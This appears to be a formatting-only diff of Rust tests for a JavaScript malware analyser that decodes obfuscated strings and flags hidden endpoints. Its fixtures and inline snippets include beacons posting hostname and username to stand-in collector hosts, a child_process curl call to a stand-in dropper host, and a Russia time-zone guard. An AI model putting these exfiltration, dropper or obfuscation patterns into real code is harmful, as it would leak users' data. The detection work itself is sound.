@@ -14,11 +14,61 @@ fn run(src: &str) -> FileFacts {
 macro_rules! levels {
     ($snippet:literal) => {
         [
-            (("low", include_str!(concat!("../tests/fixtures/obfuscator/out/", $snippet, ".low.js"))), "string-array"),
-            (("base64", include_str!(concat!("../tests/fixtures/obfuscator/out/", $snippet, ".base64.js"))), "string-array → base64"),
-            (("base64-var", include_str!(concat!("../tests/fixtures/obfuscator/out/", $snippet, ".base64-var.js"))), "string-array → base64"),
-            (("rc4", include_str!(concat!("../tests/fixtures/obfuscator/out/", $snippet, ".rc4.js"))), "string-array → rc4 → base64"),
-            (("high", include_str!(concat!("../tests/fixtures/obfuscator/out/", $snippet, ".high.js"))), "string-array → rc4 → base64"),
+            (
+                (
+                    "low",
+                    include_str!(concat!(
+                        "../tests/fixtures/obfuscator/out/",
+                        $snippet,
+                        ".low.js"
+                    )),
+                ),
+                "string-array",
+            ),
+            (
+                (
+                    "base64",
+                    include_str!(concat!(
+                        "../tests/fixtures/obfuscator/out/",
+                        $snippet,
+                        ".base64.js"
+                    )),
+                ),
+                "string-array → base64",
+            ),
+            (
+                (
+                    "base64-var",
+                    include_str!(concat!(
+                        "../tests/fixtures/obfuscator/out/",
+                        $snippet,
+                        ".base64-var.js"
+                    )),
+                ),
+                "string-array → base64",
+            ),
+            (
+                (
+                    "rc4",
+                    include_str!(concat!(
+                        "../tests/fixtures/obfuscator/out/",
+                        $snippet,
+                        ".rc4.js"
+                    )),
+                ),
+                "string-array → rc4 → base64",
+            ),
+            (
+                (
+                    "high",
+                    include_str!(concat!(
+                        "../tests/fixtures/obfuscator/out/",
+                        $snippet,
+                        ".high.js"
+                    )),
+                ),
+                "string-array → rc4 → base64",
+            ),
         ]
     };
 }
@@ -26,7 +76,9 @@ macro_rules! levels {
 const COLLECTOR: &str = "collect.example-telemetry.net";
 
 fn hidden_endpoint(f: &FileFacts, host: &str, technique: &str) -> bool {
-    f.endpoints.iter().any(|e| e.host == host && e.encodings.join(" → ") == technique)
+    f.endpoints
+        .iter()
+        .any(|e| e.host == host && e.encodings.join(" → ") == technique)
 }
 
 fn has_source(f: &FileFacts, kind: DataKind) -> bool {
@@ -37,13 +89,40 @@ fn has_source(f: &FileFacts, kind: DataKind) -> bool {
 fn obfuscated_https_beacon_is_read_like_source() {
     for ((name, src), technique) in levels!("beacon") {
         let f = run(src);
-        assert!(hidden_endpoint(&f, COLLECTOR, technique), "{name}: {:#?}", f.endpoints);
-        for kind in [DataKind::Hostname, DataKind::Username, DataKind::WholeEnvironment] {
-            assert!(has_source(&f, kind), "{name}: no {kind:?} in {:#?}", f.sources);
+        assert!(
+            hidden_endpoint(&f, COLLECTOR, technique),
+            "{name}: {:#?}",
+            f.endpoints
+        );
+        for kind in [
+            DataKind::Hostname,
+            DataKind::Username,
+            DataKind::WholeEnvironment,
+        ] {
+            assert!(
+                has_source(&f, kind),
+                "{name}: no {kind:?} in {:#?}",
+                f.sources
+            );
         }
-        let flow = f.flows.iter().find(|fl| fl.sink_api == "https.request().write");
-        assert!(flow.is_some_and(|fl| fl.kinds.contains(DataKind::Hostname) && fl.kinds.contains(DataKind::Username)), "{name}: {:#?}", f.flows);
-        assert!(f.obfuscations.iter().any(|o| o.decoded == COLLECTOR && o.technique == technique), "{name}: {:#?}", f.obfuscations);
+        let flow = f
+            .flows
+            .iter()
+            .find(|fl| fl.sink_api == "https.request().write");
+        assert!(
+            flow.is_some_and(
+                |fl| fl.kinds.contains(DataKind::Hostname) && fl.kinds.contains(DataKind::Username)
+            ),
+            "{name}: {:#?}",
+            f.flows
+        );
+        assert!(
+            f.obfuscations
+                .iter()
+                .any(|o| o.decoded == COLLECTOR && o.technique == technique),
+            "{name}: {:#?}",
+            f.obfuscations
+        );
     }
 }
 
@@ -51,10 +130,23 @@ fn obfuscated_https_beacon_is_read_like_source() {
 fn obfuscated_fetch_beacon_is_read_like_source() {
     for ((name, src), technique) in levels!("fetch_beacon") {
         let f = run(src);
-        assert!(hidden_endpoint(&f, COLLECTOR, technique), "{name}: {:#?}", f.endpoints);
-        assert!(has_source(&f, DataKind::Hostname) && has_source(&f, DataKind::Username), "{name}: {:#?}", f.sources);
+        assert!(
+            hidden_endpoint(&f, COLLECTOR, technique),
+            "{name}: {:#?}",
+            f.endpoints
+        );
+        assert!(
+            has_source(&f, DataKind::Hostname) && has_source(&f, DataKind::Username),
+            "{name}: {:#?}",
+            f.sources
+        );
         let flow = f.flows.iter().find(|fl| fl.sink_api == "fetch");
-        assert!(flow.is_some_and(|fl| fl.kinds.contains(DataKind::Hostname) && fl.endpoints == vec![COLLECTOR.to_string()]), "{name}: {:#?}", f.flows);
+        assert!(
+            flow.is_some_and(|fl| fl.kinds.contains(DataKind::Hostname)
+                && fl.endpoints == vec![COLLECTOR.to_string()]),
+            "{name}: {:#?}",
+            f.flows
+        );
     }
 }
 
@@ -62,8 +154,19 @@ fn obfuscated_fetch_beacon_is_read_like_source() {
 fn obfuscated_time_zone_guard_names_russia() {
     for ((name, src), technique) in levels!("region") {
         let f = run(src);
-        assert!(f.region_guards.iter().any(|g| g.countries == vec!["RU".to_string()] && g.constants.contains(&"Europe/Moscow".to_string())), "{name}: {:#?}", f.region_guards);
-        assert!(hidden_endpoint(&f, COLLECTOR, technique), "{name}: {:#?}", f.endpoints);
+        assert!(
+            f.region_guards
+                .iter()
+                .any(|g| g.countries == vec!["RU".to_string()]
+                    && g.constants.contains(&"Europe/Moscow".to_string())),
+            "{name}: {:#?}",
+            f.region_guards
+        );
+        assert!(
+            hidden_endpoint(&f, COLLECTOR, technique),
+            "{name}: {:#?}",
+            f.endpoints
+        );
     }
 }
 
@@ -71,11 +174,31 @@ fn obfuscated_time_zone_guard_names_russia() {
 fn obfuscated_curl_exec_names_its_host() {
     for ((name, src), technique) in levels!("exec_curl") {
         let f = run(src);
-        assert!(hidden_endpoint(&f, "stage.example-dropper.org", technique), "{name}: {:#?}", f.endpoints);
-        assert!(f.requires.contains(&"child_process".to_string()), "{name}: {:?}", f.requires);
-        assert!(f.obfuscations.iter().any(|o| o.decoded.starts_with("curl ")), "{name}: {:#?}", f.obfuscations);
+        assert!(
+            hidden_endpoint(&f, "stage.example-dropper.org", technique),
+            "{name}: {:#?}",
+            f.endpoints
+        );
+        assert!(
+            f.requires.contains(&"child_process".to_string()),
+            "{name}: {:?}",
+            f.requires
+        );
+        assert!(
+            f.obfuscations
+                .iter()
+                .any(|o| o.decoded.starts_with("curl ")),
+            "{name}: {:#?}",
+            f.obfuscations
+        );
         // Pieces of a split string are not endpoints of their own.
-        assert!(f.endpoints.iter().all(|e| e.host == "stage.example-dropper.org"), "{name}: {:#?}", f.endpoints);
+        assert!(
+            f.endpoints
+                .iter()
+                .all(|e| e.host == "stage.example-dropper.org"),
+            "{name}: {:#?}",
+            f.endpoints
+        );
     }
 }
 
@@ -92,7 +215,10 @@ fn table(alphabet: &str) -> [u8; 128] {
 fn base64_with_lowercase_first_alphabet() {
     let t = table("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=");
     assert_eq!(decode_base64_with("Ahr0Chm", &t).as_deref(), Some("https"));
-    assert_eq!(decode_base64_with("y29SBgvJDc5LEgfTCgXLlxrLBgvTzxrYEs5Uzxq", &t).as_deref(), Some(COLLECTOR));
+    assert_eq!(
+        decode_base64_with("y29SBgvJDc5LEgfTCgXLlxrLBgvTzxrYEs5Uzxq", &t).as_deref(),
+        Some(COLLECTOR)
+    );
     // Characters outside the alphabet are skipped; bytes are UTF-8.
     assert_eq!(decode_base64_with("W6K!", &t).as_deref(), Some("é"));
     assert_eq!(decode_base64_with("/w", &t), None);
@@ -129,8 +255,19 @@ fn rotation_and_index_shifting_wrappers() {
         var name = require(pick(0x11))[shifted(0, 0xa)]();
         fetch(shifted(0, 0xb), { method: 'POST', body: name });"#;
     let f = run(src);
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname) && fl.endpoints == vec!["sink.example.org".to_string()]), "{:#?}", f.flows);
-    assert!(hidden_endpoint(&f, "sink.example.org", "string-array"), "{:#?}", f.endpoints);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)
+                && fl.endpoints == vec!["sink.example.org".to_string()]),
+        "{:#?}",
+        f.flows
+    );
+    assert!(
+        hidden_endpoint(&f, "sink.example.org", "string-array"),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 #[test]
@@ -141,8 +278,16 @@ fn wrapper_variable_and_plain_array_variable() {
         var alias = at;
         require(alias(0))[alias(1)](alias(2));"#;
     let f = run(src);
-    assert!(f.requires.contains(&"child_process".to_string()), "{:?}", f.requires);
-    assert!(hidden_endpoint(&f, "drop.example.net", "string-array"), "{:#?}", f.endpoints);
+    assert!(
+        f.requires.contains(&"child_process".to_string()),
+        "{:?}",
+        f.requires
+    );
+    assert!(
+        hidden_endpoint(&f, "drop.example.net", "string-array"),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 /// The XOR of each character of `s` with `key`, as a JavaScript string literal.
@@ -158,20 +303,41 @@ fn xor_loop_decoder() {
         xor_literal("https://xor.example.net/c", 0x2a)
     );
     let f = run(&src);
-    assert!(hidden_endpoint(&f, "xor.example.net", "xor(0x2a)"), "{:#?}", f.endpoints);
-    assert!(f.obfuscations.iter().any(|o| o.technique == "xor(0x2a)"), "{:#?}", f.obfuscations);
-    assert!(f.flows.iter().any(|fl| fl.endpoints == vec!["xor.example.net".to_string()]), "{:#?}", f.flows);
+    assert!(
+        hidden_endpoint(&f, "xor.example.net", "xor(0x2a)"),
+        "{:#?}",
+        f.endpoints
+    );
+    assert!(
+        f.obfuscations.iter().any(|o| o.technique == "xor(0x2a)"),
+        "{:#?}",
+        f.obfuscations
+    );
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.endpoints == vec!["xor.example.net".to_string()]),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
 fn shift_loop_with_block_body_and_key_string() {
-    let shifted: String = "https://shift.example.net/".bytes().map(|b| format!("\\x{:02x}", b + 1)).collect();
+    let shifted: String = "https://shift.example.net/"
+        .bytes()
+        .map(|b| format!("\\x{:02x}", b + 1))
+        .collect();
     let src = format!(
         "function un(t) {{ var r = '', j; for (var i = 0; i < t.length; i++) {{ r = r + String.fromCharCode(t.charCodeAt(i) - 1); }} return r; }}
          const u = un('{shifted}'); fetch(u);"
     );
     let f = run(&src);
-    assert!(hidden_endpoint(&f, "shift.example.net", "shift(-1)"), "{:#?}", f.endpoints);
+    assert!(
+        hidden_endpoint(&f, "shift.example.net", "shift(-1)"),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 #[test]
@@ -179,9 +345,25 @@ fn uri_and_char_code_decoders() {
     let f = run("const a = unescape('%68%74%74%70%73%3a%2f%2f%75%72%69%2e%65%78%61%6d%70%6c%65%2e%6e%65%74%2f');
         const b = String.fromCharCode.apply(null, [0x68, 0x74, 0x74, 0x70, 0x73, 0x3a, 0x2f, 0x2f, 0x63, 0x63, 0x2e, 0x65, 0x78, 0x61, 0x6d, 0x70, 0x6c, 0x65, 0x2e, 0x6f, 0x72, 0x67]);
         const c = String.fromCharCode(0x60 + 8, 116, 116, 112, 58, 47, 47, 0x30 * 2 + 1, 114, 46, 116, 111, 112);");
-    assert!(f.endpoints.iter().any(|e| e.host == "uri.example.net" && e.encodings == ["uri"]), "{:#?}", f.endpoints);
-    assert!(f.endpoints.iter().any(|e| e.host == "cc.example.org" && e.encodings == ["char-codes"]), "{:#?}", f.endpoints);
-    assert!(f.endpoints.iter().any(|e| e.host == "ar.top"), "{:#?}", f.endpoints);
+    assert!(
+        f.endpoints
+            .iter()
+            .any(|e| e.host == "uri.example.net" && e.encodings == ["uri"]),
+        "{:#?}",
+        f.endpoints
+    );
+    assert!(
+        f.endpoints
+            .iter()
+            .any(|e| e.host == "cc.example.org" && e.encodings == ["char-codes"]),
+        "{:#?}",
+        f.endpoints
+    );
+    assert!(
+        f.endpoints.iter().any(|e| e.host == "ar.top"),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 #[test]
@@ -192,13 +374,20 @@ fn ordinary_array_lookups_are_not_obfuscation() {
         function get(object, path) { path = path - 0; var keys = Object.keys(object); var key = keys[path]; return object[key]; }
         module.exports = { format: format, get: get, big: unit(3), odd: unit(4) };");
     assert!(f.obfuscations.is_empty(), "{:#?}", f.obfuscations);
-    assert!(f.endpoints.iter().all(|e| e.encodings.is_empty()), "{:#?}", f.endpoints);
+    assert!(
+        f.endpoints.iter().all(|e| e.encodings.is_empty()),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 /// A string array of `n` numbered strings with `extra` appended, rotated until the checksum
 /// over entries 0-2 equals `target`, then `require(d(n))[d(n + 1)]()` sent to the network.
 fn rotated_program(n: usize, extra: [&str; 2], target: &str) -> String {
-    let items: Vec<String> = (0..n).map(|i| format!("'{i}x'")).chain(extra.iter().map(|e| format!("'{e}'"))).collect();
+    let items: Vec<String> = (0..n)
+        .map(|i| format!("'{i}x'"))
+        .chain(extra.iter().map(|e| format!("'{e}'")))
+        .collect();
     format!(
         "function arr() {{ const a = [{}]; arr = function () {{ return a; }}; return arr(); }}
          function d(i) {{ i = i - 0; const a = arr(); let v = a[i]; return v; }}
@@ -216,8 +405,16 @@ fn hostile_string_arrays_finish_fast() {
         let src = rotated_program(n, ["os", "hostname"], "-1");
         let t = std::time::Instant::now();
         let f = run(&src);
-        assert!(f.obfuscations.is_empty() && f.flows.is_empty(), "{:#?}", f.obfuscations);
-        assert!(t.elapsed() < std::time::Duration::from_secs(5), "{n} strings took {:?}", t.elapsed());
+        assert!(
+            f.obfuscations.is_empty() && f.flows.is_empty(),
+            "{:#?}",
+            f.obfuscations
+        );
+        assert!(
+            t.elapsed() < std::time::Duration::from_secs(5),
+            "{n} strings took {:?}",
+            t.elapsed()
+        );
     }
 }
 
@@ -228,9 +425,18 @@ fn long_rotation_is_found() {
     let target = r as f64 + (r + 1) as f64 * 2.0 + (r + 2) as f64 / 3.0;
     let src = rotated_program(n, ["os", "hostname"], &format!("{target:?}"));
     // The two extra strings sit at n and n + 1; read them at rotated positions.
-    let src = src.replace(&format!("d({n}))[d({})]", n + 1), &format!("d({}))[d({})]", n - r, n + 1 - r));
+    let src = src.replace(
+        &format!("d({n}))[d({})]", n + 1),
+        &format!("d({}))[d({})]", n - r, n + 1 - r),
+    );
     let f = run(&src);
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
@@ -248,16 +454,29 @@ fn xor_loop_provenance_names_the_argument_literal() {
          fetch(dec({lit}, x));"
     );
     let f = run(&src);
-    let o = f.obfuscations.iter().find(|o| o.decoded == "https://prov-xor.example.net/c").expect("decoded");
-    assert_eq!(o.provenance, format!("xor(0x2a) → {}", crate::tests::literal_at(&src, &lit)));
+    let o = f
+        .obfuscations
+        .iter()
+        .find(|o| o.decoded == "https://prov-xor.example.net/c")
+        .expect("decoded");
+    assert_eq!(
+        o.provenance,
+        format!("xor(0x2a) → {}", crate::tests::literal_at(&src, &lit))
+    );
 }
 
 /// The string literal written at `at`, without its quotes, if it is an entry of an array
 /// literal (between `[` or `,` and `,` or `]`).
 fn array_entry_at(src: &str, at: usize) -> Option<&str> {
-    let quote = src[at..].chars().next().filter(|c| *c == '\'' || *c == '"')?;
+    let quote = src[at..]
+        .chars()
+        .next()
+        .filter(|c| *c == '\'' || *c == '"')?;
     let len = src[at + 1..].find(quote)?;
-    let (before, after) = (src[..at].chars().last()?, src[at + len + 2..].chars().next()?);
+    let (before, after) = (
+        src[..at].chars().last()?,
+        src[at + len + 2..].chars().next()?,
+    );
     (matches!(before, '[' | ',') && matches!(after, ',' | ']')).then(|| &src[at + 1..at + 1 + len])
 }
 
@@ -266,25 +485,55 @@ fn obfuscator_provenance_names_the_string_array_entry() {
     let t = table("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=");
     for ((name, src), technique) in levels!("beacon") {
         let f = run(src);
-        let o = f.obfuscations.iter().find(|o| o.decoded == COLLECTOR).unwrap_or_else(|| panic!("{name}: {:#?}", f.obfuscations));
+        let o = f
+            .obfuscations
+            .iter()
+            .find(|o| o.decoded == COLLECTOR)
+            .unwrap_or_else(|| panic!("{name}: {:#?}", f.obfuscations));
         let origin = o.origin.unwrap_or_else(|| panic!("{name}: no origin"));
-        assert_eq!(o.provenance, format!("{technique} → {}", crate::tests::location(src, origin.start)), "{name}");
-        let entry = array_entry_at(src, origin.start as usize).unwrap_or_else(|| panic!("{name}: not an array entry: {}", &src[origin.start as usize..][..40]));
+        assert_eq!(
+            o.provenance,
+            format!(
+                "{technique} → {}",
+                crate::tests::location(src, origin.start)
+            ),
+            "{name}"
+        );
+        let entry = array_entry_at(src, origin.start as usize).unwrap_or_else(|| {
+            panic!(
+                "{name}: not an array entry: {}",
+                &src[origin.start as usize..][..40]
+            )
+        });
         // Where the entry can be decoded without the call's key, it must be the collector;
         // RC4 levels split the string, and the first piece's entry is named.
         let entry = unescape(entry);
         match name {
             "low" => assert_eq!(entry, COLLECTOR),
-            "base64" | "base64-var" => assert_eq!(decode_base64_with(&entry, &t).as_deref(), Some(COLLECTOR), "{name}"),
+            "base64" | "base64-var" => assert_eq!(
+                decode_base64_with(&entry, &t).as_deref(),
+                Some(COLLECTOR),
+                "{name}"
+            ),
             _ => {
                 // RC4 levels split the string: the entry is the first piece under one of the
                 // file's four-character keys.
-                let first_piece = string_literals(src).filter(|k| k.encode_utf16().count() == 4).find_map(|key| {
-                    let data: Vec<u16> = decode_base64_with(&entry, &t)?.encode_utf16().collect();
-                    let piece = String::from_utf16(&rc4(&data, &key.encode_utf16().collect::<Vec<_>>())?).ok()?;
-                    (!piece.is_empty() && COLLECTOR.starts_with(&piece)).then_some(piece)
-                });
-                assert!(first_piece.is_some(), "{name}: entry {entry:?} is no piece of the collector");
+                let first_piece = string_literals(src)
+                    .filter(|k| k.encode_utf16().count() == 4)
+                    .find_map(|key| {
+                        let data: Vec<u16> =
+                            decode_base64_with(&entry, &t)?.encode_utf16().collect();
+                        let piece = String::from_utf16(&rc4(
+                            &data,
+                            &key.encode_utf16().collect::<Vec<_>>(),
+                        )?)
+                        .ok()?;
+                        (!piece.is_empty() && COLLECTOR.starts_with(&piece)).then_some(piece)
+                    });
+                assert!(
+                    first_piece.is_some(),
+                    "{name}: entry {entry:?} is no piece of the collector"
+                );
             }
         }
     }
